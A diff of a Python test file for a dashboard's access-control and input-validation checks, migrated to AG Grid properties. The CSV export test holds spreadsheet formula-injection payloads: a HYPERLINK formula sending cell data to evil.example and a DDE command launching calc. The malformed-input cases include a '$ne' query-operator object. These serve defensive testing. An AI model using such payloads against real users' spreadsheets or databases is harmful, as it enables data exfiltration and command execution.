@@ -50,10 +50,9 @@ def _text(response) -> str:  # noqa: ANN001
 
 def test_a_forged_agents_table_row_lists_none_of_another_agents_interactions(app, other) -> None:  # noqa: F811
     body = call(_agent(app), app, "agents-drill-title.children", {
-        **BASE, "agents-table.derived_viewport_data": [{"agent_id": OTHER}],
-        "agents-table.active_cell": {"row": 0, "column": 0}})
+        **BASE, "agents-table.cellClicked": {"rowId": OTHER, "colId": "agent_name", "rowIndex": 0}})
     answer = body.get_json()["response"]
-    assert answer["agents-drill-table"]["data"] == []  # before the fix: every interaction of A018 (195 in the demo)
+    assert answer["agents-drill-table"]["rowData"] == []  # before the fix: every interaction of A018 (195 in the demo)
     assert other["id"] not in _text(body)
 
 
@@ -71,10 +70,9 @@ def _agent_csrf(app, client) -> str:  # noqa: ANN001, F811
     return client.get_cookie("_csrf_token").value
 
 
-@pytest.mark.parametrize("output", ["agents-table.data", "qa-queue.data", "agents-drill-title.children"])
+@pytest.mark.parametrize("output", ["agents-table.rowData", "qa-queue.rowData", "agents-drill-title.children"])
 def test_another_teams_filter_gives_nothing_of_that_team(app, other, output: str) -> None:  # noqa: F811
-    values = {**BASE, "filters-team.value": [other["team"]], "agents-table.derived_viewport_data": [{"agent_id": MINE}],
-              "agents-table.active_cell": {"row": 0, "column": 0}}
+    values = {**BASE, "filters-team.value": [other["team"]], "agents-table.cellClicked": {"rowId": MINE}}
     text = _text(call(_agent(app), app, output, values))
     assert OTHER not in text and other["id"] not in text
 
@@ -105,15 +103,12 @@ def test_outputs_that_do_not_match_the_callback_are_refused(app) -> None:  # noq
 MALFORMED = {  # output fragment, values: each gave a 500 (or was stored) before the server checked it
     "answer maybe": ("interaction-status.children", {"interaction-answer.value": "maybe"}),
     "interaction id object": ("interaction-header.children", {"interaction-id.data": {"$ne": ""}}),
-    "active_cell row text": ("agents-drill-title.children", {"agents-table.active_cell": {"row": "x"},
-                                                             "agents-table.derived_viewport_data": [{"agent_id": "A007"}]}),
-    "active_cell outside the rows": ("agents-drill-title.children", {"agents-table.active_cell": {"row": 5, "column": 0},
-                                                                     "agents-table.derived_viewport_data": []}),
-    "viewport not a list": ("agents-drill-title.children", {"agents-table.active_cell": {"row": 0, "column": 0},
-                                                            "agents-table.derived_viewport_data": "rows"}),
-    "start date garbage": ("agents-table.data", {"filters-dates.start_date": "yesterday"}),
-    "channel not a list": ("agents-table.data", {"filters-channel.value": 5}),
-    "language unknown": ("agents-table.data", {"shell-lang.value": "xx"}),
+    "clicked row id an object": ("agents-drill-title.children", {"agents-table.cellClicked": {"rowId": {"$ne": ""}}}),
+    "clicked row without id": ("agents-drill-title.children", {"agents-table.cellClicked": {"rowIndex": 5}}),
+    "click not an object": ("agents-drill-title.children", {"agents-table.cellClicked": "rows"}),
+    "start date garbage": ("agents-table.rowData", {"filters-dates.start_date": "yesterday"}),
+    "channel not a list": ("agents-table.rowData", {"filters-channel.value": 5}),
+    "language unknown": ("agents-table.rowData", {"shell-lang.value": "xx"}),
     "pathname not a path": ("shell-content.children", {"shell-url.pathname": ["/agents"]}),
 }
 
@@ -170,8 +165,9 @@ def test_csv_export_escapes_formula_cells_and_keeps_numbers(app) -> None:  # noq
     subjects = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
     rows = [{"subject": subject, "aht_seconds": -3.5} for subject in subjects]
     response = call(_agent(app), app, "agents-drill-table-download.data", {
-        "agents-drill-table-csv.n_clicks": 1, "agents-drill-table.derived_virtual_data": rows,
-        "agents-drill-table.columns": [{"name": "subject", "id": "subject"}, {"name": "aht_seconds", "id": "aht_seconds"}]})
+        "agents-drill-table-csv.n_clicks": 1, "agents-drill-table.virtualRowData": rows,
+        "agents-drill-table.columnDefs": [{"headerName": "subject", "field": "subject"},
+                                          {"headerName": "aht_seconds", "field": "aht_seconds"}]})
     download = _text(response)
     content = response.get_json()["response"]["agents-drill-table-download"]["data"]["content"]
     cells = list(csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")))
